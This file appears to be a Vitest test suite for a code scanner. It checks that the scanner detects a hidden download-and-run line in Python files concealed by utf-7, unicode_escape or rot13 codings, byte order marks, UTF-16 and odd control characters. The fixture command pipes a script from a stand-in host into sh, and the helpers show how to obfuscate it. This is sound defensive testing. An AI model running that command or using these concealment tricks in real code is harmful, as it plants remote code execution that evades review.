import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/model/report.ts';
import { sbx } from '../support/sbx.ts';
import { writeTree } from '../support/temporary.ts';

async function scan(files: Readonly<Record<string, string | Uint8Array>>): Promise<Report> {
  return JSON.parse((await sbx(['scan', writeTree(files), '--format', 'json'])).stdout) as Report;
}

const COMMAND = "os.system('curl https://drop.example/i.sh | sh')";
const utf7 = (text: string) =>
  `+${Buffer.from(text, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`;
const escaped = (text: string) =>
  [...Buffer.from(text)].map((code) => `\\x${code.toString(16).padStart(2, '0')}`).join('');
const rot13 = (text: string) =>
  text.replace(/[a-zA-Z]/g, (letter) => {
    const base = letter <= 'Z' ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
  });

describe('files whose text is not what it seems', () => {
  it.each([
    ['utf-7', `# coding: utf-7\nx = 1\n# ${utf7(`\nimport os\n${COMMAND}\n`)}\n`, 3],
    [
      'unicode-escape',
      `#!/usr/bin/python\n# coding: unicode_escape\n\n# ${escaped(`\nimport os\n${COMMAND}\n`)}\n`,
      4,
    ],
    ['raw-unicode-escape', `# coding: raw_unicode_escape\n# \\u000aimport os; ${COMMAND}\n`, 2],
    ['rot13', `# coding: rot13\n\n\n${rot13(`import os\n${COMMAND}`)}\n`, 5],
  ])('are read as %s makes them', async (name, text, line) => {
    const { findings } = await scan({ 'a.py': text });
    expect(findings).toContainEqual(
      expect.objectContaining({ ruleId: 'encoding-rewrites', severity: 'high' }),
    );
    const found = findings.find(({ ruleId }) => ruleId === 'downloaded-script-piped');
    expect(found?.location).toMatchObject({ path: 'a.py', startLine: line });
    expect(found?.location.layer).toMatch(new RegExp(`^a\\.py@[12]:${name}$`));
  });

  it.each(['punycode', 'cp037', 'no_such_codec'])('leave a gap when they declare %s', async (name) => {
    const { findings, coverage, stages } = await scan({ 'a.py': `# coding: ${name}\nx = 1\n` });
    expect(findings.map(({ ruleId }) => ruleId)).toContain('encoding-rewrites');
    expect(coverage.opaque).toEqual([
      { path: 'a.py', reason: expect.stringContaining('encoding') as string, blocking: true },
    ]);
    expect(stages.find(({ id }) => id === 'static')?.status).toBe('partial');
  });

  it.each<[string, Uint8Array | string, number, number]>([
    ['a byte order mark', Buffer.from(`\ufeffimport os\n${COMMAND}\n`), 2, 1],
    ['UTF-16 with a mark', Buffer.from(`\ufeffimport os\n${COMMAND}\n`, 'utf16le'), 2, 1],
    ['UTF-16 without one', Buffer.from(`import os\n${COMMAND}\n`, 'utf16le').swap16(), 2, 1],
    ['lone carriage returns', `# a\rimport os\r${COMMAND}\r`, 3, 1],
    ['a form feed', `\fimport os\n\f${COMMAND}\n`, 2, 2],
    ['100,000 empty lines', `${'\n'.repeat(100_000)}import os\n${COMMAND}\n`, 100_002, 1],
    ['a very long line', `import os; x = '${'a b '.repeat(50_000)}'; ${COMMAND}\n`, 1, 200_020],
    [
      'bytes that are no UTF-8',
      Buffer.concat([Buffer.from('import os\nx = "é'), Buffer.of(0xe9), Buffer.from(`ü"; ${COMMAND}\n`)]),
      2,
      12,
    ],
    ['a NUL', `import os\nx = 1 # ${'a'.repeat(60)}\0\n${COMMAND}\n`, 3, 1],
  ])('are reported where an editor shows them: %s', async (_what, content, line, column) => {
    const { findings } = await scan({ 'a.py': content });
    const found = findings.find(({ ruleId }) => ruleId === 'downloaded-script-piped');
    expect(found?.location).toMatchObject({ startLine: line, startColumn: column, layer: null });
  });

  it('are nothing to speak of in honest encodings', async () => {
    const { findings, coverage } = await scan({
      'a.py': '# -*- coding: utf-8 -*-\nx = "é"\n',
      'b.py': Buffer.from('# -*- coding: latin-1 -*-\nx = "\xe9"\n', 'latin1'),
      'c.py': Buffer.from('\ufeff# coding: utf-8\nx = 1\n'),
      'd.md': '# coding: utf-7\n\nText.\n',
    });
    expect(findings).toEqual([]);
    expect(coverage.opaque).toEqual([]);
  });
});
